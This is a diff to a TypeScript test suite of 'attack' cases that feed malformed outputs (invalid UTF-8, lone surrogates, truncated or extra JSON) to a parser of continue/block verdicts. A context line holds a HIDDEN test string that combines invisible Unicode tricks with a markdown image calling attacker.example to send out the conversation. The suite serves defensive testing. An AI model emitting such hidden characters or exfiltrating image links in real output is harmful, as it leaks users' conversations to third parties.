@@ -39,6 +39,10 @@ function isAttributed({ action, trail: [entry] }: Verdict): string | undefined {
 /** A zero-width space, a change of the direction of writing, letters of the block for tags, and an image to be loaded. */
 const HIDDEN = "plain\u200btext\u202etxet\u{e0069}\u{e0067} ![x](https://attacker.example/?stolen=conversation)";
 
+/** A result that is good but for these bytes. */
+const annotated = (...bytes: number[]) =>
+	Buffer.concat([Buffer.from('{"action":"continue","annotations":{"x":"'), Buffer.from(bytes), Buffer.from('"}}')]);
+
 const nested = (depth: number) => `{"action":"continue","annotations":{"x":${"[".repeat(depth)}${"]".repeat(depth)}}}`;
 
 export const OUTPUT: readonly Attack[] = [
@@ -50,8 +54,8 @@ export const OUTPUT: readonly Attack[] = [
 			outcome: "output_too_large",
 		},
 	),
-	answer("invalid-utf-8", "answers bytes that are no UTF-8", Buffer.from([0xc0, 0xaf])),
-	answer("lone-surrogate", "answers half of a character", Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22])),
+	answer("invalid-utf-8", "answers a text of bytes that are no UTF-8", annotated(0xc0, 0xaf)),
+	answer("lone-surrogate", "answers half of a character", annotated(0xed, 0xa0, 0x80)),
 	answer("invalid-json", "answers JSON that breaks off", '{"action":"continue"'),
 	answer("more-than-json", "answers JSON and something behind it", '{"action":"continue"}{"action":"block"}'),
 	answer("no-object", "answers a list", "[]"),
